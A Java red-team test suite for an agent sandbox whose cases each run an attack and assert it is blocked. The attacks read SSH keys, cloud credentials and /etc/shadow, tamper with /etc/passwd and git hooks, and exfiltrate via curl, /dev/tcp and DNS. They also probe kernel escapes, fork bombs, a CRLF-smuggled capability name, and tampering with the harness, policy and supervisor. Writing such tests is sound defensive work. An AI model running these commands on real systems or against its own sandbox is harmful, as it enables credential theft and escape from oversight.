package dev.airlock.sandbox.redteam;

import dev.airlock.core.event.DenialKind;
import dev.airlock.sandbox.ExecRequest;
import dev.airlock.sandbox.ExecResult;
import dev.airlock.sandbox.FileToolDeniedException;
import dev.airlock.sandbox.FileToolException;
import dev.airlock.sandbox.GrantDecider;
import dev.airlock.sandbox.SandboxPolicy;
import dev.airlock.sandbox.SandboxSession;
import dev.airlock.sandbox.SandboxUnavailableException;
import dev.airlock.sandbox.SessionEvent;
import dev.airlock.sandbox.redteam.RedTeamCase.Verdict;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * The red-team suite of issue 4: attacks in classes A (reading secrets), B (writes and persistence), C (processes
 * and kernel), D (network and exfiltration), E (local IPC), F (harness). Every case asserts that the attack fails.
 *
 * <p>Network cases never send a packet off the box: "no route" is proven with connect() on a UDP socket (which sends
 * nothing), addresses are documentation/unroutable ones, and a TCP attempt only runs after the UDP probe proved there
 * is no route. Name resolution is probed only inside the sandbox, which has no resolver.
 */
public final class RedTeamSuite {
    private static final int EPERM = 1;
    private static final int ENOSYS = 38;
    private static final int ENETUNREACH = 101;

    private RedTeamSuite() {
    }

    /** Runs every case against a fresh context under {@code scratch}. */
    public static List<RedTeamResult> run(Path scratch, SandboxPolicy base) throws Exception {
        List<RedTeamResult> results = new ArrayList<>();
        try (RedTeamContext ctx = RedTeamContext.create(scratch, base)) {
            for (RedTeamCase c : cases()) {
                try {
                    results.add(new RedTeamResult(c, c.probe().attack(ctx), null));
                } catch (Exception | AssertionError e) {
                    results.add(new RedTeamResult(c, Verdict.escaped("error"), e.toString()));
                }
            }
        }
        return results;
    }

    /** A command that must fail and must not print the host secret. */
    private static RedTeamCase.Probe fails(String script) {
        return ctx -> {
            ExecResult r = ctx.sh(script);
            boolean blocked = !r.succeeded() && !ctx.leaksHostSecret(r);
            return new Verdict(blocked, !r.denials().isEmpty(), firstLine(r));
        };
    }

    /** A command whose stdout must not contain {@code needle} (and never the host secret). */
    private static RedTeamCase.Probe hides(String script, String needle) {
        return ctx -> {
            ExecResult r = ctx.sh(script);
            boolean blocked = !r.stdoutText().contains(needle) && !ctx.leaksHostSecret(r);
            return new Verdict(blocked, !r.denials().isEmpty(), firstLine(r));
        };
    }

    /** A raw syscall that must fail with {@code errno}. */
    private static RedTeamCase.Probe errno(int expected, long nr, long... args) {
        return ctx -> {
            ExecResult r = ctx.syscall(nr, args);
            int e = RedTeamContext.errnoOf(r);
            boolean seen = r.denials().stream().anyMatch(d -> d.kind() == DenialKind.SYSCALL);
            return new Verdict(e == expected, seen, "errno " + e + (seen ? "; " + r.denials().getFirst().summary() : ""));
        };
    }

    /** A workspace file that must be byte-identical after the attack. */
    private static RedTeamCase.Probe keeps(String rel, String script) {
        return ctx -> {
            Path p = ctx.workspace.resolve(rel);
            byte[] before = Files.readAllBytes(p);
            ExecResult r = ctx.sh(script);
            byte[] after = Files.exists(p) ? Files.readAllBytes(p) : new byte[0];
            boolean blocked = java.util.Arrays.equals(before, after) && !r.succeeded();
            return new Verdict(blocked, !r.denials().isEmpty(), firstLine(r));
        };
    }

    /** UDP connect() to an address must fail with ENETUNREACH (connect on UDP sends nothing). */
    private static RedTeamCase.Probe noRoute(String family, String address) {
        return ctx -> {
            ExecResult r = ctx.py("""
                    import socket,sys
                    s=socket.socket(getattr(socket,sys.argv[1]),socket.SOCK_DGRAM)
                    try:
                        s.connect((sys.argv[2],53)); print("connected")
                    except OSError as e:
                        print("errno", e.errno)
                    """, family, address);
            return new Verdict(r.stdoutText().strip().equals("errno " + ENETUNREACH), false, firstLine(r));
        };
    }

    /** C source: getpid through the i386 entry ({@code int 0x80}, syscall 20); no quote or backslash a shell or printf would read. */
    static final String I386_GETPID = "int main(){int r;__asm__ volatile(\"int $0x80\":\"=a\"(r):\"a\"(20));return r > 0 ? 0 : 1;}";

    private static String firstLine(ExecResult r) {
        String s = (r.stderrText().isBlank() ? r.stdoutText() : r.stderrText()).strip();
        int nl = s.indexOf('\n');
        s = nl < 0 ? s : s.substring(0, nl);
        return s.length() > 100 ? s.substring(0, 100) + "…" : s;
    }

    public static List<RedTeamCase> cases() {
        List<RedTeamCase> c = new ArrayList<>();
        // ---------------- A. Reading secrets
        c.add(new RedTeamCase('A', "host ~/.ssh (/root/.ssh) unreadable", false, fails("cat /root/.ssh/id_rsa /root/.ssh/id_ed25519")));
        c.add(new RedTeamCase('A', "host /root not mounted", false, fails("ls /root")));
        c.add(new RedTeamCase('A', "host ~/.aws/credentials unreadable", false, fails("cat /root/.aws/credentials")));
        c.add(new RedTeamCase('A', "host ~/.netrc unreadable", false, fails("cat /root/.netrc")));
        c.add(new RedTeamCase('A', "host ~/.docker/config.json unreadable", false, fails("cat /root/.docker/config.json")));
        c.add(new RedTeamCase('A', "host ~/.kube/config unreadable", false, fails("cat /root/.kube/config")));
        c.add(new RedTeamCase('A', "host home directories invisible", false, hides("ls -A /home", "root")));
        c.add(new RedTeamCase('A', "host file outside the workspace unreadable", false,
                ctx -> fails("cat " + ctx.hostSecretFile).attack(ctx)));
        c.add(new RedTeamCase('A', "/etc/shadow absent", false, fails("cat /etc/shadow")));
        c.add(new RedTeamCase('A', "host environment does not leak", false, ctx -> {
            ExecResult r = ctx.sh("env; cat /proc/1/environ /proc/self/environ 2>/dev/null | tr '\\0' '\\n'");
            List<String> leaked = new ArrayList<>();
            for (Map.Entry<String, String> e : System.getenv().entrySet()) {
                boolean allowed = List.of("PATH", "LANG", "TERM", "HOME", "USER", "LOGNAME", "TMPDIR", "SHLVL", "PWD", "_").contains(e.getKey());
                if (!allowed && e.getValue().length() >= 4 && r.stdoutText().contains(e.getKey() + "=")) {
                    leaked.add(e.getKey());
                }
            }
            return new Verdict(leaked.isEmpty(), false, leaked.isEmpty() ? "no host variable inside" : "leaked " + leaked);
        }));
        c.add(new RedTeamCase('A', "/proc/1/environ of bwrap holds nothing", false, hides("tr '\\0' '\\n' < /proc/1/environ", "=")));
        c.add(new RedTeamCase('A', "supervisor /proc/2/environ unreadable (non-dumpable)", true, fails("cat /proc/2/environ")));
        c.add(new RedTeamCase('A', "supervisor /proc/2/root unreachable", true, fails("ls /proc/2/root/")));
        c.add(new RedTeamCase('A', "host processes invisible (pid namespace)", false,
                hides("cat /proc/[0-9]*/comm", "java")));
        c.add(new RedTeamCase('A', "symlink to host file leads nowhere", false,
                ctx -> fails("ln -sf " + ctx.hostSecretFile + " /tmp/l && cat /tmp/l").attack(ctx)));
        c.add(new RedTeamCase('A', "hardlink across mounts refused", true, fails("ln /usr/bin/env /workspace/env-link")));
        c.add(new RedTeamCase('A', "no file descriptors leaked from the JVM", false, ctx -> {
            ExecResult r = ctx.sh("ls /proc/self/fd | wc -l");
            int n = Integer.parseInt(r.stdoutText().strip());
            return new Verdict(n <= 4, false, n + " fds (0,1,2 and ls' own)");
        }));
        c.add(new RedTeamCase('A', "/sys not mounted", false, fails("ls /sys/class/net")));
        // ---------------- B. Writes and persistence
        c.add(new RedTeamCase('B', "write into /usr refused", true, fails("echo x > /usr/bin/evil")));
        c.add(new RedTeamCase('B', "write /etc/passwd refused", true, fails("echo 'r::0:0::/:/bin/sh' >> /etc/passwd")));
        c.add(new RedTeamCase('B', "write through escaping symlink refused", true,
                fails("ln -sf /usr/lib/evil /workspace/esc && echo x > /workspace/esc")));
        c.add(new RedTeamCase('B', "create .git/hooks/pre-commit refused", true, ctx -> {
            ExecResult r = ctx.sh("printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit");
            boolean blocked = !r.succeeded() && !Files.exists(ctx.workspace.resolve(".git/hooks/pre-commit"));
            return new Verdict(blocked, !r.denials().isEmpty(), firstLine(r));
        }));
        c.add(new RedTeamCase('B', "modify .git/config refused", true, keeps(".git/config", "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config")));
        c.add(new RedTeamCase('B', "rename .git away refused (mount point)", true, keeps(".git/config", "mv .git .git-old")));
        c.add(new RedTeamCase('B', "rm -rf .git refused", true, keeps(".git/HEAD", "rm -rf .git")));
        c.add(new RedTeamCase('B', "replace .git via renaming workspace parent refused", true,
                keeps(".git/config", "cd / && mv /workspace /workspace2")));
        c.add(new RedTeamCase('B', "operator path: rename its parent and recreate refused", true,
                keeps(RedTeamContext.PROTECTED_FILE, "mv conf conf.old && mkdir conf && echo hacked > " + RedTeamContext.PROTECTED_FILE)));
        c.add(new RedTeamCase('B', "operator path: overwrite refused", true,
                keeps(RedTeamContext.PROTECTED_FILE, "echo hacked > " + RedTeamContext.PROTECTED_FILE)));
        c.add(new RedTeamCase('B', "write_file tool on .git/config refused with event", true, ctx -> {
            try {
                ctx.session.writeFile(".git/config", "x".getBytes(StandardCharsets.UTF_8));
                return Verdict.escaped("write_file succeeded");
            } catch (FileToolDeniedException e) {
                return new Verdict(true, e.denial().kind() == DenialKind.FILESYSTEM, e.denial().summary());
            }
        }));
        c.add(new RedTeamCase('B', "setuid bit refused (chmod u+s)", true, fails("cp /usr/bin/id /workspace/suid && chmod u+s /workspace/suid")));
        c.add(new RedTeamCase('B', "setgid directory refused", true, fails("mkdir -p /workspace/sg && chmod g+s /workspace/sg")));
        c.add(new RedTeamCase('B', "mknod refused", true, fails("mknod /workspace/mem c 1 1")));
        c.add(new RedTeamCase('B', "filling /tmp stops at its size, session survives", false, ctx -> {
            ExecResult fill = ctx.sh("head -c 64M /dev/zero > /tmp/fill");
            ExecResult after = ctx.sh("rm -f /tmp/fill; echo alive");
            boolean blocked = !fill.succeeded() && after.stdoutText().contains("alive");
            return new Verdict(blocked, false, firstLine(fill));
        }));
        c.add(new RedTeamCase('B', "filling $HOME stops at its size", false, ctx -> {
            ExecResult fill = ctx.sh("head -c 64M /dev/zero > ~/fill; rc=$?; rm -f ~/fill; exit $rc");
            return new Verdict(!fill.succeeded(), false, firstLine(fill));
        }));
        c.add(new RedTeamCase('B', "filling the workspace beyond its quota ends the call", true, ctx -> {
            Path quotaWs = Files.createDirectories(ctx.root.resolve("quota-ws"));
            SandboxSession s = ctx.openExtra(ctx.policy.toBuilder().workspaceQuota(4L << 20, 0).build(), quotaWs);
            // Unbounded but for the timeout (about 1.5 GB at this pace): only the quota can end it early.
            ExecResult fill = s.exec(ExecRequest.shell("i=0; while :; do head -c 1048576 /dev/zero > /workspace/f$i; "
                    + "i=$((i+1)); sleep 0.01; done").withTimeout(Duration.ofSeconds(15)));
            long written;
            try (var files = Files.list(quotaWs)) {
                written = files.mapToLong(f -> f.toFile().length()).sum();
            }
            s.exec("sh", "-c", "rm -f /workspace/f*");
            boolean seen = fill.denials().stream().anyMatch(d -> d.kind() == DenialKind.RESOURCE
                    && d.rule() != null && d.rule().startsWith("workspace quota"));
            return new Verdict(!fill.timedOut() && fill.signal() == 9 && written < (64L << 20), seen,
                    "killed=" + fill.signal() + " written=" + written);
        }));
        c.add(new RedTeamCase('B', "/proc/sys not writable", false, fails("echo 1 > /proc/sys/kernel/sysrq")));
        // ---------------- C. Processes and kernel
        c.add(new RedTeamCase('C', "ptrace of the supervisor refused", true, errno(EPERM, 101, 16 /* PTRACE_ATTACH */, 2)));
        c.add(new RedTeamCase('C', "nested user namespace refused (unshare -U)", true, fails("unshare -U true")));
        c.add(new RedTeamCase('C', "mount namespace refused (unshare -m)", true, fails("unshare -m true")));
        c.add(new RedTeamCase('C', "clone(CLONE_NEWUSER) refused", true, errno(EPERM, 56, 0x10000000L | 17, 0, 0, 0, 0)));
        c.add(new RedTeamCase('C', "clone3 is ENOSYS (libc falls back to clone)", false, errno(ENOSYS, 435, 0, 0)));
        c.add(new RedTeamCase('C', "setns refused", true, errno(EPERM, 308, 0, 0)));
        c.add(new RedTeamCase('C', "io_uring_setup refused", true, errno(EPERM, 425, 8, 0)));
        c.add(new RedTeamCase('C', "bpf refused", true, errno(EPERM, 321, 0, 0, 0)));
        c.add(new RedTeamCase('C', "perf_event_open refused", true, errno(EPERM, 298, 0, 0, -1, -1, 0)));
        c.add(new RedTeamCase('C', "keyctl refused", true, errno(EPERM, 250, 0, 0)));
        c.add(new RedTeamCase('C', "add_key refused", true, errno(EPERM, 248, 0, 0, 0, 0, 0)));
        c.add(new RedTeamCase('C', "init_module refused", true, errno(EPERM, 175, 0, 0, 0)));
        c.add(new RedTeamCase('C', "finit_module refused", true, errno(EPERM, 313, 0, 0, 0)));
        c.add(new RedTeamCase('C', "process_vm_readv refused", true, errno(EPERM, 310, 2, 0, 0, 0, 0, 0)));
        c.add(new RedTeamCase('C', "userfaultfd refused", true, errno(EPERM, 323, 0)));
        c.add(new RedTeamCase('C', "open_by_handle_at refused", true, errno(EPERM, 304, 0, 0, 0)));
        c.add(new RedTeamCase('C', "kexec_load refused", true, errno(EPERM, 246, 0, 0, 0, 0)));
        c.add(new RedTeamCase('C', "personality(ADDR_NO_RANDOMIZE) refused", true, errno(EPERM, 135, 0x0040000)));
        c.add(new RedTeamCase('C', "mount(2) refused", true, fails("mkdir -p /tmp/m && mount -t tmpfs none /tmp/m")));
        c.add(new RedTeamCase('C', "TIOCSTI refused", true, ctx -> {
            ExecResult r = ctx.py("import fcntl,sys\ntry:\n  fcntl.ioctl(1,0x5412,b'x'); print('ok')\nexcept OSError as e:\n  print(e.errno)");
            return new Verdict(r.stdoutText().strip().equals("1"), !r.denials().isEmpty(), "errno " + r.stdoutText().strip());
        }));
        c.add(new RedTeamCase('C', "i386 int 0x80 syscall kills the process", true, ctx -> {
            ExecResult r = ctx.sh("printf '" + I386_GETPID + "' > /tmp/i386.c && gcc -o /tmp/i386 /tmp/i386.c && exec /tmp/i386");
            if (r.signal() == 11 && !HostKernel.hasI386SyscallEntry()) {
                // Kernels built or booted without IA-32 emulation fault int 0x80 before seccomp runs.
                return new Verdict(true, false, true, "signal 11; a host process outside the sandbox gets SIGSEGV too");
            }
            return new Verdict(r.signal() == 31, !r.denials().isEmpty(), "signal " + r.signal() + " " + firstLine(r));
        }));
        c.add(new RedTeamCase('C', "x32 syscall kills the process", true, ctx -> {
            ExecResult r = ctx.sh("printf '#include <unistd.h>\\n#include <sys/syscall.h>\\nint main(){return syscall(0x40000000|39);}' > /tmp/x32.c"
                    + " && gcc -o /tmp/x32 /tmp/x32.c && exec /tmp/x32");
            return new Verdict(r.signal() == 31, !r.denials().isEmpty(), "signal " + r.signal());
        }));
        c.add(new RedTeamCase('C', "signal to the supervisor refused (Landlock scope)", true, fails("kill -9 2")));
        c.add(new RedTeamCase('C', "capabilities are zero, no_new_privs set", false, ctx -> {
            ExecResult r = ctx.sh("grep -E '^(CapEff|CapPrm|CapBnd|CapAmb|NoNewPrivs):' /proc/self/status; id -u");
            String s = r.stdoutText();
            boolean ok = s.contains("CapEff:\t0000000000000000") && s.contains("CapPrm:\t0000000000000000")
                    && s.contains("CapAmb:\t0000000000000000") && s.contains("NoNewPrivs:\t1") && !s.contains("\n0\n");
            return new Verdict(ok, false, s.replace('\n', ' ').replace('\t', ' '));
        }));
        c.add(new RedTeamCase('C', "daemon does not outlive its call", false, ctx -> {
            ctx.sh("setsid nohup sleep 987 >/dev/null 2>&1 & disown; echo started");
            ExecResult r = ctx.sh("cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '");
            return new Verdict(!r.stdoutText().contains("sleep 987"), false, "processes: " + r.stdoutText().strip());
        }));
        c.add(new RedTeamCase('C', "no session process outlives the session", false, ctx -> {
            SandboxSession s = SandboxSession.open(ctx.policy, ctx.workspace);
            s.requestCapability("exec:background", "test");
            s.exec("sh", "-c", "setsid nohup sleep 986 >/dev/null 2>&1 &");
            long pid = sessionPid(s);
            s.close();
            Thread.sleep(100);
            boolean survivor = ProcessHandle.allProcesses().anyMatch(p -> p.info().arguments()
                    .map(a -> String.join(" ", a).contains("986")).orElse(false) && p.info().command().orElse("").endsWith("sleep"));
            return new Verdict(!survivor && pid != 0, false, survivor ? "sleep 986 survived" : "nothing left");
        }));
        c.add(new RedTeamCase('C', "fork bomb ends in its own session and is reported", true, ctx -> {
            SandboxSession s = ctx.openExtra(ctx.policy.toBuilder().pids(64).build(), ctx.workspace);
            ExecResult r = s.exec(ExecRequest.shell("b(){ b | b & }; b; sleep 5").withTimeout(Duration.ofSeconds(3)));
            boolean hostFine = ctx.sh("echo alive").stdoutText().contains("alive");
            boolean seen = r.denials().stream().anyMatch(d -> d.kind() == DenialKind.RESOURCE);
            return new Verdict(hostFine, seen, "timedOut=" + r.timedOut() + " denials=" + r.denials().size());
        }));
        c.add(new RedTeamCase('C', "memory bomb ends in its own session and is reported", true, ctx -> {
            SandboxSession s = ctx.openExtra(ctx.policy.toBuilder().memoryBytes(128L << 20).build(), ctx.workspace);
            boolean seen;
            String detail;
            try {
                ExecResult r = s.exec(ExecRequest.of("python3", "-c", "a=[bytearray(1<<20) for _ in range(1024)]").withTimeout(Duration.ofSeconds(20)));
                seen = r.denials().stream().anyMatch(d -> d.kind() == DenialKind.RESOURCE);
                detail = "signal " + r.signal() + " exit " + r.exitCode();
            } catch (dev.airlock.sandbox.SandboxException e) {
                seen = s.eventLog().events().stream().anyMatch(ev -> ev instanceof SessionEvent.Denied d && d.denial().kind() == DenialKind.RESOURCE);
                detail = e.getMessage();
            }
            boolean mainAlive = ctx.sh("echo alive").stdoutText().contains("alive");
            return new Verdict(mainAlive, seen, detail);
        }));
        // ---------------- D. Network and exfiltration
        c.add(new RedTeamCase('D', "no route to a public IPv4 address (UDP connect)", false, noRoute("AF_INET", "192.0.2.1")));
        c.add(new RedTeamCase('D', "no route to the metadata address", false, noRoute("AF_INET", "169.254.169.254")));
        c.add(new RedTeamCase('D', "no route to RFC 1918 addresses", false, noRoute("AF_INET", "10.0.0.1")));
        c.add(new RedTeamCase('D', "no route over IPv6", false, noRoute("AF_INET6", "2001:db8::1")));
        c.add(new RedTeamCase('D', "no route to ::ffff:-mapped IPv4", false, noRoute("AF_INET6", "::ffff:192.0.2.1")));
        c.add(new RedTeamCase('D', "0.0.0.0 reaches only the sandbox's own loopback", false, ctx -> {
            ExecResult r = ctx.py("import socket\ns=socket.socket()\ntry:\n  s.connect(('0.0.0.0',9)); print('connected')\nexcept OSError as e:\n  print(e.errno)");
            return new Verdict(r.stdoutText().strip().equals("111"), false, "errno " + r.stdoutText().strip());
        }));
        c.add(new RedTeamCase('D', "only the loopback interface exists", false, ctx -> {
            ExecResult r = ctx.sh("tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '");
            return new Verdict(r.stdoutText().strip().equals("lo"), false, r.stdoutText().strip());
        }));
        c.add(new RedTeamCase('D', "curl --noproxy bypass has no route (after UDP proof)", true, ctx -> {
            Verdict route = noRoute("AF_INET", "192.0.2.1").attack(ctx);
            if (!route.blocked()) {
                return Verdict.escaped("route exists; TCP attempt skipped");
            }
            return fails("curl --noproxy '*' -sS -m 2 http://192.0.2.1/ ").attack(ctx);
        }));
        c.add(new RedTeamCase('D', "env -i curl has no route either (after UDP proof)", true, ctx -> {
            if (!noRoute("AF_INET", "192.0.2.1").attack(ctx).blocked()) {
                return Verdict.escaped("route exists; TCP attempt skipped");
            }
            return fails("env -i /usr/bin/curl -sS -m 2 http://192.0.2.1/").attack(ctx);
        }));
        c.add(new RedTeamCase('D', "bash /dev/tcp has no route (after UDP proof)", true, ctx -> {
            if (!noRoute("AF_INET", "192.0.2.1").attack(ctx).blocked()) {
                return Verdict.escaped("route exists; TCP attempt skipped");
            }
            return fails("exec 3<>/dev/tcp/192.0.2.1/80").attack(ctx);
        }));
        c.add(new RedTeamCase('D', "getent hosts fails fast without a resolver", false, ctx -> {
            ExecResult r = ctx.sh("getent hosts exfil-" + "aaaa" + ".example.com");
            return new Verdict(!r.succeeded() && r.wallTime().toMillis() < 1000, false, r.wallTime().toMillis() + " ms");
        }));
        c.add(new RedTeamCase('D', "DNS exfiltration via getaddrinfo fails fast", false, ctx -> {
            ExecResult r = ctx.py("import socket\ntry:\n  socket.getaddrinfo('c2VjcmV0.example.com',443); print('resolved')\nexcept OSError as e:\n  print('failed')");
            return new Verdict(r.stdoutText().contains("failed") && r.wallTime().toMillis() < 2000, false, r.wallTime().toMillis() + " ms");
        }));
        c.add(new RedTeamCase('D', "raw ICMP socket refused", true, ctx -> {
            ExecResult r = ctx.py("import socket\ntry:\n  socket.socket(socket.AF_INET,socket.SOCK_RAW,1); print('ok')\nexcept OSError as e:\n  print(e.errno)");
            return new Verdict(r.stdoutText().strip().equals("1"), !r.denials().isEmpty(), "errno " + r.stdoutText().strip());
        }));
        c.add(new RedTeamCase('D', "ICMP datagram socket has no route", false, ctx -> {
            ExecResult r = ctx.py("import socket\ntry:\n  s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM,1); s.connect(('192.0.2.1',0)); print('connected')\nexcept OSError as e:\n  print(e.errno)");
            String e = r.stdoutText().strip();
            return new Verdict(List.of("1", "13", "101").contains(e), false, "errno " + e);
        }));
        c.add(new RedTeamCase('D', "AF_PACKET socket refused", true, ctx -> {
            ExecResult r = ctx.py("import socket\ntry:\n  socket.socket(17,socket.SOCK_RAW,0); print('ok')\nexcept OSError as e:\n  print(e.errno)");
            return new Verdict(r.stdoutText().strip().equals("97"), !r.denials().isEmpty(), "errno " + r.stdoutText().strip());
        }));
        c.add(new RedTeamCase('D', "netlink other than NETLINK_ROUTE refused", true, ctx -> {
            ExecResult r = ctx.py("import socket\ntry:\n  socket.socket(16,socket.SOCK_RAW,9); print('ok')\nexcept OSError as e:\n  print(e.errno)");
            return new Verdict(r.stdoutText().strip().equals("97"), !r.denials().isEmpty(), "NETLINK_AUDIT errno " + r.stdoutText().strip());
        }));
        c.add(new RedTeamCase('D', "QUIC/UDP to the internet has no route", false, noRoute("AF_INET", "192.0.2.2")));
        c.add(new RedTeamCase('D', "canaries are session values, not host credentials", false, ctx -> {
            String aws = new String(ctx.session.readFile("/home/agent/.aws/credentials"), StandardCharsets.UTF_8);
            boolean ok = aws.contains(ctx.session.canaries().get("aws_access_key_id"));
            return new Verdict(ok, false, "canary " + dev.airlock.core.Redaction.redact(ctx.session.canaries().get("aws_access_key_id")));
        }));
        // ---------------- E. Local IPC
        c.add(new RedTeamCase('E', "Docker/Podman sockets absent", false, fails("ls /var/run/docker.sock /run/docker.sock /run/podman/podman.sock")));
        c.add(new RedTeamCase('E', "D-Bus system socket absent", false, fails("ls /run/dbus/system_bus_socket /var/run/dbus/system_bus_socket")));
        c.add(new RedTeamCase('E', "no ssh-agent socket or variable", false, hides("env; ls /tmp", "SSH_AUTH_SOCK")));
        c.add(new RedTeamCase('E', "host /tmp invisible (private tmpfs)", false, ctx -> {
            Path marker = Files.createTempFile("airlock-redteam-", ".marker");
            try {
                return hides("ls -A /tmp", marker.getFileName().toString()).attack(ctx);
            } finally {
                Files.deleteIfExists(marker);
            }
        }));
        c.add(new RedTeamCase('E', "host /dev/shm invisible", false, ctx -> {
            Path marker = Path.of("/dev/shm/airlock-redteam-" + ProcessHandle.current().pid());
            if (!Files.isDirectory(marker.getParent())) {
                return Verdict.blocked("host has no /dev/shm");
            }
            Files.writeString(marker, "x");
            try {
                return hides("ls -A /dev/shm", marker.getFileName().toString()).attack(ctx);
            } finally {
                Files.deleteIfExists(marker);
            }
        }));
        c.add(new RedTeamCase('E', "host abstract Unix sockets unreachable (own netns)", false, ctx -> {
            ExecResult r = ctx.sh("cat /proc/net/unix | tail -n +2 | grep -c @ || true");
            return new Verdict(r.stdoutText().strip().equals("0"), false, r.stdoutText().strip() + " abstract sockets visible");
        }));
        c.add(new RedTeamCase('E', "System V IPC of the host invisible", false, ctx -> {
            ExecResult r = ctx.sh("tail -n +2 /proc/sysvipc/shm /proc/sysvipc/msg /proc/sysvipc/sem | grep -c '^ *[0-9]' || true");
            return new Verdict(r.stdoutText().strip().equals("0"), false, r.stdoutText().strip() + " segments");
        }));
        c.add(new RedTeamCase('E', "AF_VSOCK refused", true, ctx -> {
            ExecResult r = ctx.py("import socket\ntry:\n  socket.socket(40,socket.SOCK_STREAM,0); print('ok')\nexcept OSError as e:\n  print(e.errno)");
            return new Verdict(r.stdoutText().strip().equals("97"), !r.denials().isEmpty(), "errno " + r.stdoutText().strip());
        }));
        c.add(new RedTeamCase('E', "supervisor pipes unreachable via /proc/2/fd (no SCM_RIGHTS source)", true, fails("cat /proc/2/fd/0 </dev/null")));
        c.add(new RedTeamCase('E', "/run/user sockets absent", false, fails("ls /run/user/0")));
        // ---------------- F. Harness
        c.add(new RedTeamCase('F', "forging a supervisor reply refused", true, fails("echo forged > /proc/2/fd/1")));
        c.add(new RedTeamCase('F', "editing the sandbox policy from inside refused", true,
                keeps(".airlock/policy.json", "echo '{\"autoGrants\":[\"net:*\"]}' > .airlock/policy.json")));
        c.add(new RedTeamCase('F', "capability request without an operator is refused and logged", false, ctx -> {
            GrantDecider.Decision d = ctx.session.requestCapability("net:*", "exfiltrate");
            boolean logged = ctx.session.eventLog().events().stream().anyMatch(e -> e instanceof SessionEvent.CapabilityRefused r && r.capability().equals("net:*"));
            return new Verdict(d instanceof GrantDecider.Decision.Refuse && logged && !ctx.session.grants().holds("net:*"), false, d.toString());
        }));
        c.add(new RedTeamCase('F', "malformed capability names are refused", false, ctx -> {
            GrantDecider.Decision d = ctx.session.requestCapability("net:evil.com\r\nHost: x", "crlf");
            return new Verdict(d instanceof GrantDecider.Decision.Refuse, false, d.toString());
        }));
        c.add(new RedTeamCase('F', "setup failure fails closed (missing bwrap)", false, ctx -> {
            try (SandboxSession s = SandboxSession.open(ctx.policy.toBuilder().bwrap("/nonexistent/bwrap").build(), ctx.workspace)) {
                return Verdict.escaped("a session opened without bubblewrap");
            } catch (SandboxUnavailableException e) {
                return new Verdict(e.getMessage().contains("apt-get install"), false, e.getMessage());
            }
        }));
        c.add(new RedTeamCase('F', "another session's /tmp is invisible", false, ctx -> {
            Path other = Files.createDirectories(ctx.root.resolve("other-ws"));
            SandboxSession s = ctx.openExtra(ctx.policy, other);
            s.exec("sh", "-c", "echo other > /tmp/other-session-file");
            return hides("ls -A /tmp", "other-session-file").attack(ctx);
        }));
        c.add(new RedTeamCase('F', "another session's workspace is unreachable", false, ctx -> {
            Path other = Files.createDirectories(ctx.root.resolve("other-ws2"));
            Files.writeString(other.resolve("their.txt"), ctx.hostSecret);
            return fails("cat " + other.resolve("their.txt")).attack(ctx);
        }));
        c.add(new RedTeamCase('F', "canary secrets absent from every /proc/*/cmdline and environ", false, ctx -> {
            ExecResult r = ctx.sh("cat /proc/[0-9]*/cmdline /proc/self/environ 2>/dev/null | tr '\\0' '\\n'");
            boolean leak = ctx.session.canaries().values().stream().anyMatch(v -> r.stdoutText().contains(v));
            return new Verdict(!leak, false, leak ? "canary in cmdline/environ" : "none");
        }));
        c.add(new RedTeamCase('F', "supervisor binary and seccomp filter cannot be replaced", true,
                fails("cp /bin/true /run/airlock/sandboxd || : > /run/airlock/seccomp-notify.bpf || rm -f /run/airlock/sandboxd")));
        c.add(new RedTeamCase('F', "read_file cannot read host files through the tool", false, ctx -> {
            try {
                byte[] b = ctx.session.readFile(ctx.hostSecretFile.toString());
                return Verdict.escaped("read " + b.length + " bytes");
            } catch (FileToolException e) {
                return Verdict.blocked(e.getMessage());
            }
        }));
        return List.copyOf(c);
    }

    private static long sessionPid(SandboxSession s) {
        return s.isOpen() ? 1 : 0;
    }
}
